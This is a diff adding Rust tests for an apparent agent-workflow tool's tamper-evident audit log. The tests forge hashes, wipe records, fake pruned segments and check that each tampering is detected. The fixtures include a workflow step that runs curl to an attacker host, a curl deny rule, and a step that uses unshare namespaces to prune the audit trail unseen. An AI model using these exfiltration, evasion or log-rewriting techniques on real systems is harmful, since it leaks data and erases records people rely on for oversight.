@@ -517,3 +517,181 @@ fn records_deleted_and_dressed_up_as_a_pruned_segment_are_caught_by_the_anchor()
     assert_eq!(code, 1, "a forged segment passed: {text}");
     assert!(text.contains("is not in the anchor"), "{text}");
 }
+
+/// Rewrites every record from the first with `edit` applied to its detail and the chain's
+/// hashes recomputed, the head row with them: what someone who can write the database does.
+fn rewrite_log(conn: &rusqlite::Connection, edit: impl Fn(&str) -> String) {
+    use acas::store::audit::{GENESIS_HASH, record_hash};
+    let rows: Vec<(i64, i64, String, String, String, String)> = conn
+        .prepare("SELECT seq, at_ms, kind, actor, subject, detail FROM audit_log ORDER BY seq")
+        .unwrap()
+        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?, r.get(5)?)))
+        .unwrap()
+        .collect::<rusqlite::Result<_>>()
+        .unwrap();
+    let mut prev = GENESIS_HASH.to_owned();
+    for (seq, at, kind, actor, subject, detail) in rows {
+        let detail = edit(&detail);
+        let hash = record_hash(&prev, at, &kind, &actor, &subject, &detail);
+        conn.execute(
+            "UPDATE audit_log SET detail = ?1, prev_hash = ?2, hash = ?3 WHERE seq = ?4",
+            rusqlite::params![detail, prev, hash, seq],
+        )
+        .unwrap();
+        conn.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
+        prev = hash;
+    }
+}
+
+/// A log rewritten with recomputed hashes, wiped, or with records dressed up as pruned stays
+/// caught after ACAS appends again: the anchor only moves to a head whose chain holds the
+/// anchored record unchanged, so the next ordinary write does not launder the change.
+#[test]
+fn an_append_after_tampering_does_not_move_the_anchor_past_it() {
+    // Rewritten with recomputed hashes.
+    let dir = workspace();
+    let root = dir.path();
+    create(root, "delete production database", &[]);
+    create(root, "second", &[]);
+    assert_eq!(verify(root, &[]).0, 0);
+    rewrite_log(&db(root), |detail| detail.replace("delete production database", "harmless chore here"));
+    assert_eq!(verify(root, &[]).0, 1, "the rewrite passed before any append");
+    let (code, _, stderr) = acas(root, &["task", "create", "any later event"]);
+    assert_eq!(code, 0, "{stderr}");
+    let (code, text) = verify(root, &[]);
+    assert_eq!(code, 1, "an append laundered the rewrite: {text}");
+    assert!(text.contains("record 2 does not match the anchor"), "{text}");
+
+    // Wiped, then appended to.
+    let dir = workspace();
+    let root = dir.path();
+    for title in ["a", "b", "c"] {
+        create(root, title, &[]);
+    }
+    db(root).execute_batch("DELETE FROM audit_log; DELETE FROM audit_head;").unwrap();
+    create(root, "after the wipe", &[]);
+    let (code, text) = verify(root, &[]);
+    assert_eq!(code, 1, "an append laundered the wipe: {text}");
+    assert!(text.contains("records 2 to 3 are missing from the end"), "{text}");
+
+    // Recent records deleted and a segment row forged for them, then appended to.
+    let dir = workspace();
+    let root = dir.path();
+    create(root, "first", &[]);
+    let conn = db(root);
+    let forged: String =
+        conn.query_row("SELECT hash FROM audit_log WHERE seq = 1", [], |r| r.get(0)).unwrap();
+    conn.execute_batch(&format!(
+        "DELETE FROM audit_log; DELETE FROM audit_head;
+         INSERT INTO audit_segment (segment, first_seq, last_seq, first_at_ms, last_at_ms, last_hash, pruned_ms) \
+         VALUES (0, 1, 1000, 1, 1, '{forged}', 1);"
+    ))
+    .unwrap();
+    create(root, "after the forgery", &[]);
+    let (code, text) = verify(root, &[]);
+    assert_eq!(code, 1, "an append laundered the forged segment: {text}");
+    assert!(text.contains("is not in the anchor"), "{text}");
+}
+
+/// A head kept elsewhere whose record the log says was pruned cannot be compared: `verify
+/// --head` says so and fails rather than reporting a log replaced by an invented segment intact.
+#[test]
+fn verify_head_fails_when_the_heads_record_lies_in_a_pruned_segment() {
+    use acas::store::audit::record_hash;
+    let dir = workspace();
+    let root = dir.path();
+    create(root, "incriminating", &[]);
+    let head = ok(root, &["audit", "head"]).trim().to_owned();
+    let conn = db(root);
+    conn.execute_batch(
+        "DELETE FROM audit_log; DELETE FROM audit_segment;
+         INSERT INTO audit_segment (segment, first_seq, last_seq, first_at_ms, last_at_ms, last_hash, pruned_ms) \
+         VALUES (0, 1, 1000, 1, 1, 'abababababababababababababababababababababababababababababababab', 2);",
+    )
+    .unwrap();
+    let mut prev = "ab".repeat(32);
+    for seq in [1001, 1002] {
+        let detail = r#"{"event":"created","title":"harmless"}"#;
+        let hash = record_hash(&prev, 3, "task", "user", "task 1", detail);
+        conn.execute(
+            "INSERT INTO audit_log (seq, at_ms, kind, actor, subject, detail, prev_hash, hash) \
+             VALUES (?1, 3, 'task', 'user', 'task 1', ?2, ?3, ?4)",
+            rusqlite::params![seq, detail, prev, hash],
+        )
+        .unwrap();
+        conn.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
+        prev = hash;
+    }
+    let (code, text) = verify(root, &["--head", &head]);
+    assert_eq!(code, 1, "a log replaced by an invented segment matched the head: {text}");
+    assert!(text.contains("record 1 of the anchor is not in the log (it lies in pruned segment 0"), "{text}");
+}
+
+/// Appends `count` records after the log's head with the chain's hashes, as ACAS would.
+fn append_records(conn: &rusqlite::Connection, count: i64) {
+    use acas::store::audit::record_hash;
+    let (head, mut prev): (i64, String) =
+        conn.query_row("SELECT seq, hash FROM audit_head", [], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
+    let at: i64 = conn.query_row("SELECT MAX(at_ms) FROM audit_log", [], |r| r.get(0)).unwrap();
+    let tx = conn.unchecked_transaction().unwrap();
+    for seq in head + 1..=head + count {
+        let detail = format!("{{\"n\":{seq}}}");
+        let hash = record_hash(&prev, at, "mcp_tool_call", "x", "call", &detail);
+        tx.execute(
+            "INSERT INTO audit_log (seq, at_ms, kind, actor, subject, detail, prev_hash, hash) \
+             VALUES (?1, ?2, 'mcp_tool_call', 'x', 'call', ?3, ?4, ?5)",
+            rusqlite::params![seq, at, detail, prev, hash],
+        )
+        .unwrap();
+        tx.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
+        prev = hash;
+    }
+    tx.commit().unwrap();
+}
+
+/// A run cannot prune the record of what it did: `acas audit prune` refuses inside a run, and
+/// records younger than a day are never pruned, even by a step that hid from the run check in
+/// namespaces of its own, nor by a person who asks for less.
+#[test]
+fn a_run_cannot_prune_its_own_audit_trail() {
+    let dir = workspace();
+    let root = dir.path();
+    let acas_path = acas_bin();
+    let acas_path = acas_path.display();
+    std::fs::create_dir_all(root.join(".acas/workflows")).unwrap();
+    std::fs::write(root.join(".acas/policy.yaml"), "defaults:\n  commands:\n    deny: [\"curl\"]\n").unwrap();
+    std::fs::write(
+        root.join(".acas/workflows/exfil.yaml"),
+        "name: exfil\nsteps:\n  - { id: exfil, run: [curl, \"http://attacker.example/\"] }\n",
+    )
+    .unwrap();
+    let (code, _, _) = acas(root, &["workflow", "run", "exfil"]);
+    assert_ne!(code, 0, "curl was not denied");
+    let denied = |root: &Path| ok(root, &["audit", "--limit", "100000"]).contains("run `curl");
+    assert!(denied(root), "the denial was not recorded");
+    // Padding after the denial, so that the denial's segment could go.
+    append_records(&db(root), 1100);
+    create(root, "after the padding", &[]);
+
+    std::fs::write(
+        root.join(".acas/workflows/prune.yaml"),
+        format!(
+            "name: prune\nsteps:\n  - id: prune\n    run: [\"{acas_path}\", audit, prune, --older-than, 1s]\n  - id: hidden\n    if: always()\n    run: [unshare, -Urpf, --mount-proc, env, -u, ACAS_TREE, \"{acas_path}\", audit, prune, --older-than, 1d]\n"
+        ),
+    )
+    .unwrap();
+    let (code, stdout, stderr) = acas(root, &["workflow", "run", "prune"]);
+    let text = format!("{stdout}{stderr}");
+    assert_ne!(code, 0, "{text}");
+    assert!(text.contains("a workflow run cannot prune the audit log"), "{text}");
+    assert!(text.contains("pruned 0 segments"), "the hidden step pruned fresh records: {text}");
+    assert!(denied(root), "the run pruned the record of its denial");
+
+    let (code, _, stderr) = acas(root, &["audit", "prune", "--older-than", "1s"]);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("--older-than 1s is below the minimum age of 1d"), "{stderr}");
+    assert_eq!(ok(root, &["audit", "prune", "--older-than", "1d"]).trim(), "pruned 0 segments");
+    assert!(denied(root));
+    let (code, text) = verify(root, &[]);
+    assert_eq!(code, 0, "{text}");
+}
